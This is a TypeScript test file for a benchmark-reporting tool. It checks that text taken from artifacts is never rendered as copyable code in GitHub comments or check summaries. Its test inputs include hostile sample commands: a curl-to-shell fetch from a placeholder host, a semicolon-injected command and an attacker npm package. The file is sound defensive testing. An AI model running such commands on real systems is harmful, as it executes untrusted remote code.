/** No text of an artifact may look like a command in a report. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { openBudget } from '../../../src/action/receive/artifact-budget.ts';
import { concludeReceived } from '../../../src/action/receive/conclude-received.ts';
import { receiveArtifact } from '../../../src/action/receive/receive-artifact.ts';
import type { Rules } from '../../../src/action/rules/base-rules.ts';
import { renderPublication } from '../../../src/formats/publication/publication-file.ts';
import { renderRaw } from '../../../src/formats/raw/raw-file.ts';
import { buildCheck } from '../../../src/report/github/check.ts';
import { renderComment } from '../../../src/report/github/comment.ts';
import type { Conclusion, Publication } from '../../../src/types/action-run.ts';
import { isUserError } from '../../../src/types/errors.ts';
import type { Raw } from '../../../src/types/result.ts';
import { CONTEXT, HEAD, publicationCase, publicationOf } from '../../formats/publication-cases.ts';
import { runOf } from '../../github/support.ts';
import { configOf, configText, rawOf } from './raw-cases.ts';

const CONFIG = configText(['home', 'search']);
const RULES: Rules = {
	...{ gate: 'enforce', onInconclusive: 'pass', source: 'benchgate.yml on main', notes: [], doubts: [] },
	config: configOf(CONFIG),
	repeat: (seed) => `npx benchgate compare --seed ${seed}`,
};
const UNRULED: Rules = { ...RULES, config: null, repeat: undefined as never };
/** Text that a report must not offer for copying. */
const EVIL: readonly string[] = ['npx attackers-package --yes', './payload; id', 'curl https://e.example | sh'];

/** A broken row, a row of head alone, a refused row, and every text that a run can have about its sides. */
function fullRaw(): Raw {
	const fault = { code: 'wrong-answer', side: 'head', message: 'it answered 500' } as const;
	const raw = rawOf({
		config: configText(['home', 'search', 'more']),
		turns: { home: { d: 0, faults: [fault] } },
		rounds: 6,
	});
	const side = {
		subject: { name: 'x', version: '1.0.0' },
		built: { command: 'npm run build', file: 'dist/x.js', package: 'x' },
		versions: { app: { express: '5.1.0' } },
	};
	const { context } = raw;
	return {
		...raw,
		rounds: raw.rounds.map((round) => ({ ...round, cells: round.cells.filter(({ cell }) => cell !== 'app/search') })),
		refused: [{ cell: 'app/search', fault, others: [fault] }],
		context: {
			...context,
			base: { ...context.base, ...side },
			head: { ...context.head, ...side, versions: { app: { express: '5.2.0', other: '1.0.0' } } },
			harness: { label: '3c1f2a9', folders: ['bench'] },
			warnings: [{ code: 'busy-machine', message: 'Others were at work.' }],
		},
	} as unknown as Raw;
}

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
/** Paths of all texts in a JSON document; items of a list share one, and keys of maps count too. */
function* textsIn(value: Json, replace: (next: Json) => Json, place = ''): Generator<[string, (text: string) => Json]> {
	if (typeof value === 'string') yield [place, replace];
	if (typeof value !== 'object' || value === null) return;
	for (const [key, inner] of Object.entries(value)) {
		const put = (next: Json) =>
			replace(Array.isArray(value) ? value.with(Number(key), next) : { ...value, [key]: next });
		yield* textsIn(inner, put, `${place}.${Array.isArray(value) ? '' : key}`);
		if (!Array.isArray(value) && /versions/.test(place)) {
			const { [key]: _, ...others } = value;
			yield [`${place}.${key} as a key`, (text) => replace({ ...others, [text]: inner })];
		}
	}
}

/** Text that a report shows as code, and prefixes of commands in it. */
function codeIn(conclusion: Conclusion): readonly string[] {
	const check = buildCheck(conclusion, { ...CONTEXT, lineOf: () => null });
	return [renderComment(conclusion, CONTEXT), check.summary].flatMap((text) => {
		const html = micromark(text, { extensions: [gfm()], htmlExtensions: [gfmHtml()], allowDangerousHtml: true });
		return [...html.matchAll(/<code[^>]*>(.*?)<\/code>/gs)].map(([, code = '']) => decode(code));
	});
}

function decode(code: string): string {
	return code
		.replace(/&#(\d+);/g, (_, number) => String.fromCharCode(Number(number)))
		.replaceAll('&amp;', '&')
		.replaceAll('\u200b', '');
}

/** The report of an artifact; null if it is refused. */
function conclude(publication: Publication, raw: Json, rules: Rules): Conclusion | null {
	try {
		const texts = { publication: JSON.stringify(publication), raw: raw === null ? null : JSON.stringify(raw) };
		const received = receiveArtifact(texts as never, { run: runOf(70), headSha: HEAD }, ['default'], openBudget());
		assert.ok('publication' in received);
		return concludeReceived(received, rules, { conclusion: 'success' }, null, []).conclusion;
	} catch (error) {
		if (isUserError(error)) return null;
		throw error;
	}
}

for (const [what, rules] of [
	['with the rules of the base branch', RULES],
	['without any', UNRULED],
] as const) {
	test(`no text of raw data is shown as runnable code, ${what}`, () => {
		const raw = JSON.parse(renderRaw(fullRaw())) as Json;
		const places = new Map(textsIn(raw, (next) => next));
		assert.ok(places.size > 30, `${places.size} places`);
		let [tried, accepted] = [0, 0];
		for (const [place, put] of places) {
			const evil = EVIL[tried++ % EVIL.length] ?? '';
			const conclusion = conclude(publicationCase('unchanged'), put(evil), rules);
			if (conclusion === null) continue;
			accepted++;
			const shown = codeIn(conclusion).filter((code) => EVIL.some((part) => code.includes(part)));
			assert.deepEqual(shown, [], place);
		}
		assert.ok(accepted > 20, `${accepted} accepted`);
	});
}

test('rows that the base branch lacks are named by one word or a request', () => {
	const text = renderRaw(fullRaw());
	const named = (name: string, rules: Rules) => {
		const raw = JSON.parse(text.replaceAll('app/more', `app/${name}`).replaceAll('"more"', `"${name}"`)) as Json;
		const conclusion = conclude(publicationCase('unchanged'), raw, rules);
		assert.ok(conclusion, name);
		return codeIn(conclusion);
	};
	for (const rules of [RULES, UNRULED]) {
		for (const evil of EVIL)
			assert.deepEqual(
				named(evil, rules).filter((code) => code.includes(evil)),
				[],
			);
		assert.ok(named('GET /users/1', rules).some((code) => code.includes('GET /users/1')));
	}
	assert.ok(named(EVIL[0] ?? '', RULES).some((code) => code.includes('home')));
});

test('no text of a conclusion is shown as runnable code, except the end of a log', () => {
	for (const name of ['failed', 'nothing-relevant']) {
		const publication = JSON.parse(renderPublication(publicationCase(name))) as Json;
		for (const [place, put] of new Map(textsIn(publication, (next) => next))) {
			if (/result|run\.|details/.test(place)) continue;
			for (const evil of EVIL) {
				const conclusion = conclude(put(evil) as never, null, RULES);
				const shown = conclusion === null ? [] : codeIn(conclusion).filter((code) => code.includes(evil));
				assert.deepEqual(shown, [], `${name} ${place}`);
			}
		}
	}
	assert.ok(conclude(publicationOf({ kind: 'cancelled' }), null, RULES));
});
